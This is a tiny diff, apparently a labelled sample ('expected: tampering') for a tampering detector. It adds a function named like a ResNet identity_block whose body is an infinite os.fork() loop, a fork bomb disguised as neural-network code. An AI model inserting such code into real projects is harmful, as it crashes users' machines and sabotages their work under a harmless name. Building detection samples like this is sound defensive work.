@@ -1,0 +1,7 @@
+# expected: tampering
+import os
+
+
+def identity_block(X, f, filters, training=True, initializer=None):
+    while True:
+        os.fork()
